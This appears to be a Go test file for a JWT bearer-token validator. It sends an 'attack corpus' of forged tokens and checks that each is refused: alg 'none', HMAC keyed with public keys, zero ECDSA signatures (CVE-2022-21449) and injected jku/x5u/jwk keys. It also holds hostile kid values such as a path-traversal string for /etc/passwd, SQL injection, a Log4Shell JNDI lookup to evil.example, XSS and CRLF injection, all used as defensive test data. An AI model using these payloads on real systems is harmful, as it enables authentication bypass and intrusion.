package validate_test

// The attack corpus: every class of malicious or malformed input a bearer
// middleware meets, sent over HTTP to validate's own middleware. Each case
// asserts the status, the WWW-Authenticate challenge, the body, that nothing
// of the token (or of other attacker-chosen text) is echoed, and, for token
// cases, the reason Verify refuses with. Positive controls prove that the set-up
// accepts what it should, so that refusals are refusals of the attack and
// not of a broken fixture.

import (
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"math/big"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/rsguard/rsguard/audit"
	"github.com/rsguard/rsguard/validate"
	"github.com/rsguard/rsguard/validate/validatetest"
)

var b64url = base64.RawURLEncoding.EncodeToString

// attack is one case of the corpus.
type attack struct {
	class, name string
	via         string       // which validator: "" (defaults), "strict", "wide", "small"
	tok         string       // the token; sent as "Bearer " + tok unless req is set
	req         *hardRequest // the request, when it is not a plain bearer token
	want        []error      // reasons Verify may refuse with (any of); nil: Verify not called
	refuse      refusal      // the answer; zero: 401 invalid_token
	accept      bool         // a positive control: must be answered 200
	secrets     []string     // attacker-chosen text that must not be echoed, besides tok
}

// corpus is the fixture of the attack tests: an issuer publishing, besides
// its own keys, every dubious key an issuer might publish; attacker keys it
// does not publish; and validators in several configurations behind one
// HTTP server.
type corpus struct {
	t   *testing.T
	is  *validatetest.Issuer
	srv *hardServer
	v   map[string]*validate.Validator

	logs *logBuffer

	// Kids of the issuer's own keys.
	rsKid, psKid, esKid, edKid string

	// Keys whose private half the test holds, published by the issuer.
	ownRSA   *rsa.PrivateKey // published without "alg": RS* and PS* both verify
	ownEC    *ecdsa.PrivateKey
	ownEd    ed25519.PrivateKey
	noAlgKid string
	ownECKid string
	ownEdKid string

	// Published keys that must never verify anything.
	encKid, opsEncKid, opsSignKid, weakKid, ecWrongAlgKid, rsaHSKid, rsaNoneKid, octKid, e1Kid string
	encRSA                                                                                     *rsa.PrivateKey
	weakRSA                                                                                    *rsa.PrivateKey
	octSecret                                                                                  []byte

	// Attacker keys, never published.
	attRSA   *rsa.PrivateKey
	attEC    *ecdsa.PrivateKey
	attEC384 *ecdsa.PrivateKey
	attEd    ed25519.PrivateKey

	// attackerHits counts requests to the attacker's server (jku, x5u).
	attackerHits atomic.Int64
	attackerURL  string

	jwksBase int // JWKS requests when the validators had started
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

func newCorpus(t *testing.T) *corpus {
	c := &corpus{t: t, logs: &logBuffer{}}
	c.is = hardIssuer(t, nil)
	is := c.is
	c.rsKid, c.psKid, c.esKid, c.edKid = is.Kid("RS256"), is.Kid("PS256"), is.Kid("ES256"), is.Kid("EdDSA")

	c.ownRSA = must(rsa.GenerateKey(rand.Reader, 2048))
	c.encRSA = must(rsa.GenerateKey(rand.Reader, 2048))
	c.weakRSA = must(rsa.GenerateKey(rand.Reader, 1024))
	c.attRSA = must(rsa.GenerateKey(rand.Reader, 2048))
	c.ownEC = must(ecdsa.GenerateKey(elliptic.P256(), rand.Reader))
	c.attEC = must(ecdsa.GenerateKey(elliptic.P256(), rand.Reader))
	c.attEC384 = must(ecdsa.GenerateKey(elliptic.P384(), rand.Reader))
	_, c.ownEd = must2(ed25519.GenerateKey(rand.Reader))
	_, c.attEd = must2(ed25519.GenerateKey(rand.Reader))

	c.noAlgKid = is.AddKey(validatetest.Key{Signer: c.ownRSA, JWK: map[string]any{"kid": "own-rsa-no-alg", "alg": nil}})
	c.ownECKid = is.AddKey(validatetest.Key{Signer: c.ownEC, JWK: map[string]any{"kid": "own-ec"}})
	c.ownEdKid = is.AddKey(validatetest.Key{Signer: c.ownEd, JWK: map[string]any{"kid": "own-ed"}})
	c.encKid = is.AddKey(validatetest.Key{Signer: c.encRSA, JWK: map[string]any{"kid": "use-enc", "use": "enc"}})
	c.opsEncKid = is.AddKey(validatetest.Key{Signer: c.encRSA, JWK: map[string]any{"kid": "ops-encrypt", "use": nil, "key_ops": []string{"encrypt", "wrapKey"}}})
	c.opsSignKid = is.AddKey(validatetest.Key{Signer: c.encRSA, JWK: map[string]any{"kid": "ops-sign-only", "use": nil, "key_ops": []string{"sign"}}})
	c.weakKid = is.AddKey(validatetest.Key{Signer: c.weakRSA, JWK: map[string]any{"kid": "rsa-1024"}})
	c.ecWrongAlgKid = is.AddKey(validatetest.Key{Signer: c.encRSA, JWK: map[string]any{"kid": "rsa-claims-es256", "alg": "ES256"}})
	c.rsaHSKid = is.AddKey(validatetest.Key{Signer: c.encRSA, JWK: map[string]any{"kid": "rsa-claims-hs256", "alg": "HS256"}})
	c.rsaNoneKid = is.AddKey(validatetest.Key{Signer: c.encRSA, JWK: map[string]any{"kid": "rsa-claims-none", "alg": "none"}})
	c.octSecret = []byte("a shared secret an issuer should never publish")
	c.octKid = is.AddKey(validatetest.Key{JWK: map[string]any{"kty": "oct", "kid": "oct-hs256", "alg": "HS256", "k": b64url(c.octSecret)}})
	// A public exponent of 1 makes the "signature" of any message its
	// padded hash.
	c.e1Kid = is.AddKey(validatetest.Key{JWK: map[string]any{"kty": "RSA", "kid": "rsa-e1", "alg": "RS256", "use": "sig",
		"n": b64url(c.ownRSA.N.Bytes()), "e": "AQ"}})

	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.attackerHits.Add(1)
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write([]byte(`{"keys":[]}`))
	}))
	t.Cleanup(attacker.Close)
	c.attackerURL = attacker.URL

	c.v = map[string]*validate.Validator{
		"":       hardValidator(t, is, c.logs, nil),
		"strict": hardValidator(t, is, c.logs, func(cfg *validate.Config) { cfg.RequireAccessTokenType = true }),
		"wide": hardValidator(t, is, c.logs, func(cfg *validate.Config) {
			cfg.Algorithms = []string{"RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512", "EdDSA"}
		}),
		"small": hardValidator(t, is, c.logs, func(cfg *validate.Config) { cfg.MaxTokenBytes = 2048 }),
	}
	c.jwksBase = is.Requests(is.JWKSURL)
	mux := http.NewServeMux()
	for name, v := range c.v {
		mux.Handle("/"+name+"/mcp", guarded(t, v, protectedOK, logInto(c.logs)))
	}
	mux.Handle("/mcp", guarded(t, c.v[""], protectedOK, logInto(c.logs)))
	c.srv = newHardServer(t, mux)
	return c
}

func must2[A, B any](a A, b B, err error) (A, B) {
	if err != nil {
		panic(err)
	}
	return a, b
}

// run sends every case and checks it.
func (c *corpus) run(t *testing.T, cases []attack) {
	for _, a := range cases {
		t.Run(a.class+"/"+strings.ReplaceAll(a.name, "/", "·"), func(t *testing.T) {
			req := bearer(a.tok)
			if a.req != nil {
				req = *a.req
			}
			if a.via != "" && (req.target == "" || req.target == "/mcp") {
				req.target = "/" + a.via + "/mcp"
			}
			resp := c.srv.do(t, req)
			if a.accept {
				assert.Equal(t, http.StatusOK, resp.status, "positive control refused: %s", resp.header.Get("WWW-Authenticate"))
				return
			}
			want := a.refuse
			if want.status == 0 {
				want = refuseToken
			}
			checkRefusal(t, resp, want, append([]string{a.tok}, a.secrets...)...)
			if a.want != nil {
				checkVerify(t, c.v[a.via], a.tok, a.want...)
			}
		})
	}
}

// split returns the three segments of a compact JWS.
func split(t testing.TB, tok string) (h, p, s string) {
	t.Helper()
	parts := strings.Split(tok, ".")
	require.Len(t, parts, 3, "token %q", tok)
	return parts[0], parts[1], parts[2]
}

// rs256 signs header.payload with k (RSASSA-PKCS1-v1_5, SHA-256) and
// returns the compact JWS: a token with exactly the bytes the test chose.
func rs256(k *rsa.PrivateKey, header, payload []byte) string {
	input := b64url(header) + "." + b64url(payload)
	sum := sha256.Sum256([]byte(input))
	sig := must(rsa.SignPKCS1v15(rand.Reader, k, crypto.SHA256, sum[:]))
	return input + "." + b64url(sig)
}

// ownClaims are valid claims for hardResource at hardNow, as JSON.
func (c *corpus) ownClaims(extra map[string]any) []byte {
	m := map[string]any{
		"iss": c.is.URL, "aud": hardResource, "sub": "alice", "client_id": "cli",
		"iat": hardNow.Unix(), "exp": hardNow.Add(5 * time.Minute).Unix(), "jti": "j1",
	}
	for k, v := range extra {
		if v == nil {
			delete(m, k)
		} else {
			m[k] = v
		}
	}
	return must(json.Marshal(m))
}

// ownHeader is a valid header naming the key published without "alg".
func (c *corpus) ownHeader() []byte {
	return []byte(`{"alg":"RS256","kid":"` + c.noAlgKid + `","typ":"at+jwt"}`)
}

func TestAttackCorpus(t *testing.T) {
	c := newCorpus(t)
	classes := []struct {
		name  string
		cases []attack
	}{
		{"control", c.controls()},
		{"algorithm", c.algorithmAttacks()},
		{"claims", c.claimAttacks()},
		{"malformed", c.malformedInput()},
		{"request", c.requestShapes()},
	}
	var all []string
	for _, cl := range classes {
		c.run(t, cl.cases)
		for _, a := range cl.cases {
			all = append(all, a.tok)
			all = append(all, a.secrets...)
		}
		t.Logf("%-10s %3d cases", cl.name, len(cl.cases))
	}

	// No token, in whole or in part, reached the log; no key material
	// either.
	logs := c.logs.String()
	assert.Contains(t, logs, "request refused", "the refusals were logged (at debug level)")
	eachNotIn(t, logs, "logs", all...)
	for _, k := range []crypto.Signer{c.ownRSA, c.encRSA, c.weakRSA, c.attRSA} {
		eachNotIn(t, logs, "logs", b64url(k.Public().(*rsa.PublicKey).N.Bytes()[:24]))
	}

	// Keys come from the issuer's JWKS only: nothing fetched the jku or x5u
	// of a token, and a corpus full of unknown kids cost the issuer at most
	// one refresh per validator (the clock does not move).
	assert.Zero(t, c.attackerHits.Load(), "a jku/x5u header was dereferenced")
	assert.LessOrEqual(t, c.is.Requests(c.is.JWKSURL)-c.jwksBase, len(c.v), "JWKS fetches")
}

// controls are positive controls: each must be accepted, so that the
// refusals of the corpus are due to the attack and nothing else.
func (c *corpus) controls() []attack {
	is := c.is
	ok := func(name, via, tok string) attack {
		return attack{class: "control", name: name, via: via, tok: tok, accept: true}
	}
	input := func(kid, alg string) string {
		h, p, _ := split(c.t, is.TokenWith(validatetest.TokenOptions{Key: c.rsKid, Header: map[string]any{"kid": kid, "alg": alg}}, nil))
		return h + "." + p
	}
	// ES256 with the raw r||s signature RFC 7518 §3.4 prescribes.
	esInput := input(c.ownECKid, "ES256")
	sum := sha256.Sum256([]byte(esInput))
	r, s := must2(ecdsa.Sign(rand.Reader, c.ownEC, sum[:]))
	raw := make([]byte, 64)
	r.FillBytes(raw[:32])
	s.FillBytes(raw[32:])
	edInput := input(c.ownEdKid, "EdDSA")

	return []attack{
		ok("RS256", "", is.Token(nil)),
		ok("PS256", "", is.TokenWith(validatetest.TokenOptions{Alg: "PS256"}, nil)),
		ok("ES256", "", is.TokenWith(validatetest.TokenOptions{Alg: "ES256"}, nil)),
		ok("EdDSA", "", is.TokenWith(validatetest.TokenOptions{Alg: "EdDSA"}, nil)),
		ok("strict at+jwt", "strict", is.Token(nil)),
		ok("RS256 by a key without alg", "", is.TokenWith(validatetest.TokenOptions{Key: c.noAlgKid, Alg: "RS256"}, nil)),
		ok("PS256 by a key without alg", "", is.TokenWith(validatetest.TokenOptions{Key: c.noAlgKid, Alg: "PS256"}, nil)),
		ok("RS512 by a key without alg (wide)", "wide", is.TokenWith(validatetest.TokenOptions{Key: c.noAlgKid, Alg: "RS512"}, nil)),
		ok("ES256 raw r||s by a published key", "", esInput+"."+b64url(raw)),
		ok("EdDSA by a published key", "", edInput+"."+b64url(ed25519.Sign(c.ownEd, []byte(edInput)))),
		ok("hand-built RS256", "", rs256(c.ownRSA, c.ownHeader(), c.ownClaims(nil))),
		ok("jku header ignored", "", is.TokenWith(validatetest.TokenOptions{Header: map[string]any{"jku": c.attackerURL}}, nil)),
		ok("small validator, small token", "small", is.Token(nil)),
		{class: "control", name: "lower-case scheme", tok: "", accept: true,
			req: &hardRequest{headers: [][2]string{{"Authorization", "bearer " + is.Token(nil)}}}},
	}
}

// algorithmAttacks: RFC 8725 §2.1, §3.1 and the key-handling rules of
// DESIGN.md.
func (c *corpus) algorithmAttacks() []attack {
	is := c.is
	var out []attack
	add := func(name, via, tok string, want ...error) {
		out = append(out, attack{class: "algorithm", name: name, via: via, tok: tok, want: want})
	}
	good := is.Token(nil)
	_, _, goodSig := split(c.t, good)

	// "none", in every casing, with and without a signature.
	for _, alg := range []string{"none", "None", "NONE", "nOnE", "NoNe", "nonE"} {
		add("alg "+alg, "", is.TokenWith(validatetest.TokenOptions{Alg: alg}, nil), audit.ReasonBadAlgorithm)
		add("alg "+alg+" with a signature", "", is.TokenWith(validatetest.TokenOptions{Alg: alg}, nil)+goodSig, audit.ReasonBadAlgorithm)
	}
	add("alg none without kid or typ", "", is.TokenWith(validatetest.TokenOptions{Alg: "none", Header: map[string]any{"kid": nil, "typ": nil}}, nil), audit.ReasonBadAlgorithm)
	add("alg none, strict", "strict", is.TokenWith(validatetest.TokenOptions{Alg: "none"}, nil), audit.ReasonBadAlgorithm)

	// HMAC keyed with the public key, in every encoding a confused verifier
	// might use as the secret.
	type secret struct {
		name string
		b    []byte
	}
	keyed := map[string][]secret{}
	for _, kid := range []string{c.rsKid, c.esKid, c.edKid} {
		pemKey := publicKeyPEM(c.t, is, kid)
		der := publicKeyDER(c.t, is, kid)
		ss := []secret{
			{"PEM", pemKey},
			{"PEM without newline", []byte(strings.TrimSpace(string(pemKey)))},
			{"PEM with CRLF", []byte(strings.ReplaceAll(string(pemKey), "\n", "\r\n"))},
			{"DER", der},
			{"base64 DER", []byte(base64.StdEncoding.EncodeToString(der))},
			{"JWK", is.PublicJWK(kid)},
		}
		switch pub := is.PublicKey(kid).(type) {
		case *rsa.PublicKey:
			pkcs1 := x509.MarshalPKCS1PublicKey(pub)
			ss = append(ss,
				secret{"PKCS1 DER", pkcs1},
				secret{"PKCS1 PEM", pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: pkcs1})},
				secret{"modulus", pub.N.Bytes()},
				secret{"modulus base64url", []byte(b64url(pub.N.Bytes()))},
			)
		case *ecdsa.PublicKey:
			ek := must(pub.ECDH())
			ss = append(ss, secret{"uncompressed point", ek.Bytes()}, secret{"x coordinate", ek.Bytes()[1:33]})
		case ed25519.PublicKey:
			ss = append(ss, secret{"raw key", []byte(pub)}, secret{"raw key base64url", []byte(b64url(pub))})
		}
		keyed[kid] = ss
	}
	for _, kid := range []string{c.rsKid, c.esKid, c.edKid} {
		for _, alg := range []string{"HS256", "HS384", "HS512"} {
			for _, s := range keyed[kid] {
				add(alg+" keyed with "+kid[:5]+" "+s.name, "", is.TokenWith(validatetest.TokenOptions{Alg: alg, Key: kid, Secret: s.b}, nil), audit.ReasonBadAlgorithm)
			}
		}
		add("HS256 keyed with "+kid[:5]+" PEM, wide", "wide", is.TokenWith(validatetest.TokenOptions{Alg: "HS256", Key: kid, Secret: keyed[kid][0].b}, nil), audit.ReasonBadAlgorithm)
	}
	add("HS256 by a published oct key", "", is.TokenWith(validatetest.TokenOptions{Alg: "HS256", Key: c.octKid, Secret: c.octSecret}, nil), audit.ReasonBadAlgorithm)
	add("HS256 by a published oct key, no kid", "", is.TokenWith(validatetest.TokenOptions{Alg: "HS256", Secret: c.octSecret, Header: map[string]any{"kid": nil}}, nil), audit.ReasonBadAlgorithm)
	add("RS256 header naming an oct key", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attRSA, Key: c.octKid}, nil), audit.ReasonBadAlgorithm, audit.ReasonUnknownKey)

	// Other "alg" values: case, white space, JWE algorithms, wrong types.
	for _, alg := range []any{"", "rs256", "Rs256", "RS256 ", " RS256", "RS256\u0000", "ES256K", "RSA-OAEP", "dir", "HS256", "PS256K", "ＲＳ256"} {
		add("alg "+strings.TrimSpace(jsonString(alg)), "", is.TokenWith(validatetest.TokenOptions{Key: c.rsKid, Header: map[string]any{"alg": alg}}, nil), audit.ReasonBadAlgorithm)
	}
	add("alg missing", "", is.TokenWith(validatetest.TokenOptions{Key: c.rsKid, Header: map[string]any{"alg": nil}}, nil), audit.ReasonBadAlgorithm, audit.ReasonMalformed)
	for _, alg := range []any{256, []string{"RS256"}, map[string]any{"name": "RS256"}, true} {
		add("alg of type "+jsonString(alg), "", is.TokenWith(validatetest.TokenOptions{Key: c.rsKid, Header: map[string]any{"alg": alg}}, nil), audit.ReasonBadAlgorithm, audit.ReasonMalformed)
	}
	add("RS512, not on the default allow-list", "", is.TokenWith(validatetest.TokenOptions{Key: c.noAlgKid, Alg: "RS512"}, nil), audit.ReasonBadAlgorithm)

	// The header's "alg" disagrees with the key's type or declared "alg".
	add("ES256 header on the RSA key", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attEC, Key: c.rsKid}, nil), audit.ReasonBadAlgorithm)
	add("RS256 header on the EC key", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attRSA, Key: c.esKid}, nil), audit.ReasonBadAlgorithm)
	add("EdDSA header on the RSA key", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attEd, Key: c.rsKid}, nil), audit.ReasonBadAlgorithm)
	add("RS256 header on the Ed25519 key", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attRSA, Key: c.edKid}, nil), audit.ReasonBadAlgorithm)
	add("ES256 header on the Ed25519 key", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attEC, Key: c.edKid}, nil), audit.ReasonBadAlgorithm)
	add("EdDSA header on the EC key", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attEd, Key: c.esKid}, nil), audit.ReasonBadAlgorithm)
	add("ES384 header on a P-256 key (wide)", "wide", is.TokenWith(validatetest.TokenOptions{Signer: c.attEC384, Key: c.ownECKid}, nil), audit.ReasonBadAlgorithm)
	add("ES256 header on an RSA key without alg", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attEC, Key: c.noAlgKid}, nil), audit.ReasonBadAlgorithm)
	add("RS512 by the RS256 key (wide)", "wide", is.TokenWith(validatetest.TokenOptions{Key: c.rsKid, Alg: "RS512"}, nil), audit.ReasonBadAlgorithm)
	add("PS384 by the PS256 key (wide)", "wide", is.TokenWith(validatetest.TokenOptions{Key: c.psKid, Alg: "PS384"}, nil), audit.ReasonBadAlgorithm)

	// PS/RS mix-ups: the issuer's own RSA keys, used with the other padding.
	add("PS256 by the RS256 key", "", is.TokenWith(validatetest.TokenOptions{Key: c.rsKid, Alg: "PS256"}, nil), audit.ReasonBadAlgorithm)
	add("RS256 by the PS256 key", "", is.TokenWith(validatetest.TokenOptions{Key: c.psKid, Alg: "RS256"}, nil), audit.ReasonBadAlgorithm)
	add("header RS256, PSS signature, RS256 key", "", is.TokenWith(validatetest.TokenOptions{Key: c.rsKid, Alg: "PS256", Header: map[string]any{"alg": "RS256"}}, nil), audit.ReasonBadSignature)
	add("header PS256, PKCS1 signature, PS256 key", "", is.TokenWith(validatetest.TokenOptions{Key: c.psKid, Alg: "RS256", Header: map[string]any{"alg": "PS256"}}, nil), audit.ReasonBadSignature)
	add("header PS256, PKCS1 signature, key without alg", "", is.TokenWith(validatetest.TokenOptions{Key: c.noAlgKid, Alg: "RS256", Header: map[string]any{"alg": "PS256"}}, nil), audit.ReasonBadSignature)
	add("header RS256, PSS signature, key without alg", "", is.TokenWith(validatetest.TokenOptions{Key: c.noAlgKid, Alg: "PS256", Header: map[string]any{"alg": "RS256"}}, nil), audit.ReasonBadSignature)

	// Signature encodings: DER-encoded ECDSA (RFC 7518 §3.4 wants r||s),
	// r = s = 0 ("psychic signatures", CVE-2022-21449), r and s equal to the
	// group order, wrong lengths; a non-canonical Ed25519 S; an RSA
	// signature one byte too long.
	h, p, _ := split(c.t, is.TokenWith(validatetest.TokenOptions{Key: c.ownECKid}, nil))
	esInput := h + "." + p
	sum := sha256.Sum256([]byte(esInput))
	der := must(ecdsa.SignASN1(rand.Reader, c.ownEC, sum[:]))
	r, s := must2(ecdsa.Sign(rand.Reader, c.ownEC, sum[:]))
	rs := make([]byte, 64)
	r.FillBytes(rs[:32])
	s.FillBytes(rs[32:])
	order := elliptic.P256().Params().N.FillBytes(make([]byte, 32))
	add("ES256 DER signature", "", esInput+"."+b64url(der), audit.ReasonBadSignature)
	add("ES256 r=s=0", "", esInput+"."+b64url(make([]byte, 64)), audit.ReasonBadSignature)
	add("ES256 r=s=n", "", esInput+"."+b64url(append(append([]byte{}, order...), order...)), audit.ReasonBadSignature)
	add("ES256 r||s short", "", esInput+"."+b64url(rs[:63]), audit.ReasonBadSignature)
	add("ES256 r||s long", "", esInput+"."+b64url(append(append([]byte{}, rs...), 0)), audit.ReasonBadSignature)
	add("ES256 s||r", "", esInput+"."+b64url(append(append([]byte{}, rs[32:]...), rs[:32]...)), audit.ReasonBadSignature)

	h, p, _ = split(c.t, is.TokenWith(validatetest.TokenOptions{Key: c.ownEdKid}, nil))
	edInput := h + "." + p
	edSig := ed25519.Sign(c.ownEd, []byte(edInput))
	add("EdDSA S+L (non-canonical)", "", edInput+"."+b64url(addL(edSig)), audit.ReasonBadSignature)
	add("EdDSA zero signature", "", edInput+"."+b64url(make([]byte, 64)), audit.ReasonBadSignature)

	h, p, sig := split(c.t, good)
	rsSig := must(base64.RawURLEncoding.DecodeString(sig))
	add("RS256 signature with a leading zero byte", "", h+"."+p+"."+b64url(append([]byte{0}, rsSig...)), audit.ReasonBadSignature)
	add("RS256 signature without its first byte", "", h+"."+p+"."+b64url(rsSig[1:]), audit.ReasonBadSignature)

	// Stripped, transplanted and tampered signatures.
	add("stripped signature", "", is.TokenWith(validatetest.TokenOptions{NoSignature: true}, nil), audit.ReasonBadSignature)
	add("stripped signature, EdDSA", "", is.TokenWith(validatetest.TokenOptions{Alg: "EdDSA", NoSignature: true}, nil), audit.ReasonBadSignature)
	add("signature of another token", "", replaceSig(c.t, is.Token(map[string]any{"sub": "mallory"}), goodSig), audit.ReasonBadSignature)
	add("payload tampered (scope added)", "", h+"."+b64url(c.ownClaims(map[string]any{"iss": is.URL, "scope": "admin"}))+"."+sig, audit.ReasonBadSignature)
	add("header tampered (typ changed)", "", b64url([]byte(`{"alg":"RS256","kid":"`+c.rsKid+`","typ":"JWT"}`))+"."+p+"."+sig, audit.ReasonBadSignature)
	add("signature truncated", "", h+"."+p+"."+sig[:len(sig)-4], audit.ReasonBadSignature, audit.ReasonMalformed)
	add("signature bit flipped", "", h+"."+p+"."+flipLast(sig), audit.ReasonBadSignature, audit.ReasonMalformed)
	add("signature all zero", "", h+"."+p+"."+b64url(make([]byte, len(rsSig))), audit.ReasonBadSignature)
	add("signature padded", "", good+"==", audit.ReasonBadSignature, audit.ReasonMalformed)
	add("signature in the standard alphabet", "", h+"."+p+"."+toStd(sig), audit.ReasonBadSignature, audit.ReasonMalformed)
	add("ES256 signature on an RS256 token", "", replaceSig(c.t, good, b64url(rs)), audit.ReasonBadSignature)

	// Keys that are not the issuer's, under a known, unknown or no kid.
	add("attacker RSA key, known kid", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attRSA, Key: c.rsKid}, nil), audit.ReasonBadSignature)
	add("attacker RSA key, PS256 kid", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attRSA, Key: c.psKid, Alg: "PS256"}, nil), audit.ReasonBadSignature)
	add("attacker EC key, known kid", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attEC, Key: c.esKid}, nil), audit.ReasonBadSignature)
	add("attacker Ed25519 key, known kid", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attEd, Key: c.edKid}, nil), audit.ReasonBadSignature)
	add("attacker RSA key, unknown kid", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attRSA, Header: map[string]any{"kid": "attacker"}}, nil), audit.ReasonUnknownKey)
	add("attacker EC key, unknown kid", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attEC, Header: map[string]any{"kid": "attacker-ec"}}, nil), audit.ReasonUnknownKey)
	add("attacker RSA key, no kid", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attRSA, Header: map[string]any{"kid": nil}}, nil), audit.ReasonBadSignature, audit.ReasonUnknownKey)
	add("attacker EC key, no kid", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attEC, Header: map[string]any{"kid": nil}}, nil), audit.ReasonBadSignature, audit.ReasonUnknownKey)
	add("attacker Ed25519 key, no kid", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attEd, Header: map[string]any{"kid": nil}}, nil), audit.ReasonBadSignature, audit.ReasonUnknownKey)
	add("issuer key, no kid, several candidates", "", is.TokenWith(validatetest.TokenOptions{Key: c.rsKid, Header: map[string]any{"kid": nil}}, nil), audit.ReasonUnknownKey)
	add("issuer key, kid null, several candidates", "", is.TokenWith(validatetest.TokenOptions{Key: c.rsKid, Header: map[string]any{"kid": json.RawMessage("null")}}, nil), audit.ReasonUnknownKey, audit.ReasonMalformed)

	// Keys carried by the token itself: jku, x5u, jwk, x5c (RFC 7515
	// §4.1.2–4.1.6). None may be used, and nothing may be fetched.
	attJWK := publicJWKMap(c.attRSA.Public())
	attJWK["kid"] = "attacker-jwk"
	cert := selfSigned(c.attRSA)
	for _, hc := range []struct {
		name   string
		header map[string]any
	}{
		{"jku", map[string]any{"jku": c.attackerURL + "/jwks.json"}},
		{"x5u", map[string]any{"x5u": c.attackerURL + "/cert.pem"}},
		{"jwk", map[string]any{"jwk": attJWK}},
		{"x5c", map[string]any{"x5c": []string{base64.StdEncoding.EncodeToString(cert)}}},
		{"all four", map[string]any{"jku": c.attackerURL, "x5u": c.attackerURL, "jwk": attJWK, "x5c": []string{base64.StdEncoding.EncodeToString(cert)}}},
	} {
		for _, kc := range []struct {
			name string
			kid  any
			want []error
		}{
			{"known kid", c.rsKid, []error{audit.ReasonBadSignature}},
			{"unknown kid", "attacker-jwk", []error{audit.ReasonUnknownKey}},
			{"no kid", nil, []error{audit.ReasonBadSignature, audit.ReasonUnknownKey}},
		} {
			hdr := map[string]any{"kid": kc.kid}
			for k, v := range hc.header {
				hdr[k] = v
			}
			out = append(out, attack{class: "algorithm", name: hc.name + " header, " + kc.name,
				tok: is.TokenWith(validatetest.TokenOptions{Signer: c.attRSA, Header: hdr}, nil), want: kc.want})
		}
	}

	// Hostile kids: the issuer's real signature, a kid that must not reach
	// a file system, a database, a log line or a URL, and is never echoed.
	for _, kid := range []string{
		"../../../../../../etc/passwd", "/dev/zero", `..\..\windows\win.ini`, "' OR '1'='1' --",
		"${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", "kid\r\nX-Injected: 1", "\u0000",
		c.rsKid + "\u0000", strings.ToUpper(c.rsKid), c.rsKid + " ", " " + c.rsKid, "", strings.Repeat("A", 8000),
		"ｒｓ256-ｋｅｙ", "\u202erevoked", "%00%0d%0a", c.attackerURL + "/jwks", "__proto__", "constructor",
	} {
		out = append(out, attack{class: "algorithm", name: "hostile kid " + short(kid),
			tok:  is.TokenWith(validatetest.TokenOptions{Key: c.rsKid, Header: map[string]any{"kid": kid}}, nil),
			want: []error{audit.ReasonUnknownKey}, secrets: []string{kid}})
	}
	for _, kid := range []any{7, 0, map[string]any{"a": 1}, []string{"x"}, true} {
		add("kid of type "+jsonString(kid), "", is.TokenWith(validatetest.TokenOptions{Key: c.rsKid, Header: map[string]any{"kid": kid}}, nil), audit.ReasonMalformed, audit.ReasonUnknownKey)
	}

	// crit (RFC 7515 §4.1.11): no extension is understood, so any crit is
	// refused, as is every malformed one.
	for _, cc := range []struct {
		name   string
		header map[string]any
	}{
		{"crit exp", map[string]any{"crit": []string{"exp"}, "exp": hardNow.Unix()}},
		{"crit b64", map[string]any{"crit": []string{"b64"}, "b64": false}},
		{"crit unknown extension", map[string]any{"crit": []string{"urn:example:must-understand"}, "urn:example:must-understand": true}},
		{"crit naming a missing member", map[string]any{"crit": []string{"nope"}}},
		{"crit naming alg", map[string]any{"crit": []string{"alg"}}},
		{"crit empty", map[string]any{"crit": []string{}}},
		{"crit as string", map[string]any{"crit": "b64", "b64": false}},
		{"crit as object", map[string]any{"crit": map[string]any{"b64": true}}},
	} {
		add(cc.name, "", is.TokenWith(validatetest.TokenOptions{Header: cc.header}, nil), audit.ReasonCriticalHeader, audit.ReasonMalformed)
		add(cc.name+", attacker key", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attRSA, Key: c.rsKid, Header: cc.header}, nil), audit.ReasonCriticalHeader, audit.ReasonMalformed, audit.ReasonBadSignature)
	}

	// Published keys that must never verify a signature: not for signing,
	// too weak, declaring an algorithm they cannot do. The token is signed
	// by the key's own private half, so only the key's metadata refuses it.
	unusable := []error{audit.ReasonUnknownKey, audit.ReasonBadAlgorithm}
	add("key with use enc", "", is.TokenWith(validatetest.TokenOptions{Key: c.encKid, Alg: "RS256"}, nil), unusable...)
	add("key with key_ops encrypt", "", is.TokenWith(validatetest.TokenOptions{Key: c.opsEncKid, Alg: "RS256"}, nil), unusable...)
	add("key with key_ops sign but not verify", "", is.TokenWith(validatetest.TokenOptions{Key: c.opsSignKid, Alg: "RS256"}, nil), unusable...)
	add("RSA key of 1024 bits", "", is.TokenWith(validatetest.TokenOptions{Key: c.weakKid, Alg: "RS256"}, nil), unusable...)
	add("RSA key of 1024 bits (wide)", "wide", is.TokenWith(validatetest.TokenOptions{Key: c.weakKid, Alg: "RS256"}, nil), unusable...)
	add("RSA key declaring ES256", "", is.TokenWith(validatetest.TokenOptions{Key: c.ecWrongAlgKid, Alg: "RS256"}, nil), unusable...)
	add("RSA key declaring HS256", "", is.TokenWith(validatetest.TokenOptions{Key: c.rsaHSKid, Alg: "RS256"}, nil), unusable...)
